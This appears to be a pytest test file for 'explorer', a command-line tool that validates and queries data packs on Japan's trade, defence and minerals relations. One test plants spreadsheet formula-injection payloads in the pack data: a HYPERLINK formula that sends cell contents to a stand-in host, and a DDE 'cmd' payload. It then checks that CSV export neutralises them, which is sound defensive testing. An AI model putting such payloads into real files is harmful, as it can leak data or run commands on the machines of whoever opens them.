"""The headless commands, called as a user would (in-process for speed, one real subprocess)."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest

from explorer.__main__ import main as entry_main
from explorer.cli import main
from tests.packs import replace_line, write_pack


def run(*argv):
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), out, err)
    return code, out.getvalue(), err.getvalue()


@pytest.fixture
def pack_dir(tmp_path):
    return str(write_pack(tmp_path / "pack"))


def test_validate_ok_is_one_line(pack_dir):
    code, out, _ = run("validate", pack_dir)
    assert code == 0
    assert out.count("\n") == 1
    assert out.startswith(f"OK {pack_dir}: Test pack (version 1.0): 5 actors, 2 sources, 5 events")


def test_validate_lists_every_problem_and_exits_1(tmp_path):
    folder = write_pack(tmp_path / "pack", {
        "events.csv": replace_line("events.csv", "2019-02-01", "2019-13-01"),
        "actors.csv": replace_line("actors.csv", "bloc", "union"),
    })
    code, out, _ = run("validate", str(folder))
    assert code == 1
    assert "actors.csv:3:kind: unknown kind value" in out
    assert "events.csv:2:start: impossible date: no month 13 (found: '2019-13-01')" in out
    assert "Traceback" not in out


def test_info_shows_counts_span_actors_and_indicators(pack_dir):
    code, out, _ = run("info", pack_dir)
    assert code == 0
    assert "Test pack" in out
    assert "events span 1 Feb 2019 to 2035" in out
    assert "jp              Japan / 日本 [state]" in out
    assert "goods_exports" in out and "[trade, flow]" in out
    code, out, _ = run("info", pack_dir, "--format", "json")
    info = json.loads(out)
    assert info["counts"]["observations"] == 5 and info["span"] == ["2019-02-01", "2035"]


def test_query_events_with_filters_in_every_format(pack_dir):
    code, out, _ = run("query", "events", "--pack", pack_dir, "--partner", "eu", "--domain", "trade")
    assert code == 0
    assert "epa" in out and "us-deal" not in out and "(1 row)" in out
    code, out, _ = run("query", "events", "--pack", pack_dir, "--from", "2025", "--format", "json")
    assert [r["id"] for r in json.loads(out)] == ["gcap", "minerals", "summit-2025", "us-deal"]
    code, out, _ = run("query", "events", "--pack", pack_dir, "--text", "tariff", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["id"] for r in rows] == ["us-deal"] and rows[0]["start_display"] == "22 Jul 2025"


def test_query_observations_keeps_qualifiers(pack_dir):
    _code, out, _ = run("query", "observations", "--pack", pack_dir, "--domain", "defence",
                       "--format", "json")
    figures = [r["figure"] for r in json.loads(out)]
    assert figures == ["7.7 tn JPY", "~52.7 bn USD"]


@pytest.mark.parametrize("argv,message", [
    (["query", "events", "--from", "2019-13"], "argument --from: impossible date: no month 13"),
    (["query", "events", "--domain", "space"], "unknown domain 'space'; this pack's domains: trade,"),
    (["query", "events", "--partner", "xx"], "unknown partner 'xx'"),
    (["query", "events", "--from", "2020", "--to", "2019"], "--to is before --from"),
    (["query", "observations", "--kind", "summit"], "apply to events only"),
    (["query", "planets"], "invalid choice: 'planets'"),
    (["validate"], "the following arguments are required: PATH"),
    (["frobnicate"], "invalid choice: 'frobnicate'"),
    ([], "no command given"),
])
def test_bad_usage_is_one_line_and_exit_2(argv, message, pack_dir):
    if argv and argv[0] == "query" and argv[1:2] != ["planets"]:
        argv = argv + ["--pack", pack_dir]
    code, out, err = run(*argv)
    assert code == 2
    assert message in err
    assert err.count("\n") == 1 and out == ""


def test_refused_pack_in_query_exits_1(tmp_path):
    folder = write_pack(tmp_path / "pack", {"events.csv": ""})
    code, _, err = run("query", "events", "--pack", str(folder))
    assert code == 1 and "events.csv:1: file is empty" in err


def test_entry_point_rejects_stray_arguments(capsys):
    assert entry_main(["a", "b"]) == 2
    assert "unexpected arguments" in capsys.readouterr().err


def test_installed_console_script_runs_headless(pack_dir):
    exe = [sys.executable, "-m", "explorer", "validate", pack_dir]
    result = subprocess.run(exe, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("OK ")


def test_query_partner_matches_formal_parties_unless_involved_is_asked_for():
    # The default pack: Australia is only a place named in the bilateral US-Japan minerals framework.
    code, out, _ = run("query", "events", "--partner", "au", "--format", "json")
    assert code == 0
    rows = json.loads(out)
    assert "us-jp-critical-minerals-framework" not in [r["id"] for r in rows]
    assert all("au" in r["parties"].split(";") for r in rows)
    code, out, _ = run("query", "events", "--partner", "au", "--partner-role", "involved")
    assert code == 0
    assert "us-jp-critical-minerals-framework" in out
    assert " involved " in out.splitlines()[0]  # the table says why it is listed
    code, out, _ = run("query", "events", "--partner", "au", "--partner-role", "involved",
                       "--format", "json")
    framework = next(r for r in json.loads(out) if r["id"] == "us-jp-critical-minerals-framework")
    assert {"us", "jp"} <= set(framework["parties"].split(";"))
    assert {"au", "id"} <= set(framework["involved"].split(";"))


def test_query_partner_role_rejects_unknown_roles(pack_dir):
    code, _out, err = run("query", "events", "--pack", pack_dir, "--partner-role", "witness")
    assert code == 2 and "argument --partner-role: invalid choice: 'witness'" in err


def test_query_accepts_the_domains_a_pack_declares(tmp_path):
    from explorer.data.pack_domains import Domain, write_domains
    from explorer.data.pack_writer import write_descriptor
    from tests.packs import META

    folder = write_pack(tmp_path / "pack", {"events.csv": replace_line(
        "events.csv", "jp;eu;na,critical_minerals", "jp;eu;na,environment")})
    write_domains(folder, [Domain("environment", "Environment")])
    write_descriptor(folder, META)
    code, out, err = run("query", "events", "--pack", str(folder), "--domain", "environment",
                         "--format", "json")
    assert code == 0, err
    assert [r["id"] for r in json.loads(out)] == ["minerals"]


def test_query_csv_never_writes_a_live_formula(tmp_path):
    """Item 5 (issue 15): titles and summaries a spreadsheet would run as formulas come out as text."""
    hostile = '"=HYPERLINK(""http://x.example/?q=""&A1,""Click"")"'
    events = replace_line("events.csv", "gcap,GCAP,,", f"gcap,{hostile},,")
    events = events.replace("Fighter programme.", "@SUM(1+1)")
    sources = replace_line("sources.csv", "Article B,The Economy", "+cmd|' /C calc'!A0,The Economy")
    folder = write_pack(tmp_path / "pack", {"events.csv": events, "sources.csv": sources})
    code, out, _ = run("query", "events", "--pack", str(folder), "--format", "csv")
    assert code == 0
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out))}
    assert rows["gcap"]["title"].startswith("'=HYPERLINK(")
    assert rows["gcap"]["summary"] == "'@SUM(1+1)"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value
    code, out, _ = run("query", "observations", "--pack", str(folder), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {"64.0", "68.8", "7.7"} <= {r["value"] for r in rows}  # numbers stay numbers


def test_help_lists_every_command_including_those_that_draw():
    import subprocess
    import sys

    result = subprocess.run([sys.executable, "-m", "explorer", "--help"], capture_output=True,
                            text=True, timeout=60)
    assert result.returncode == 0
    for word in ("validate", "query", "import", "export", "deck", "note", "--smoke-test",
                 "--new-instance"):
        assert word in result.stdout, word
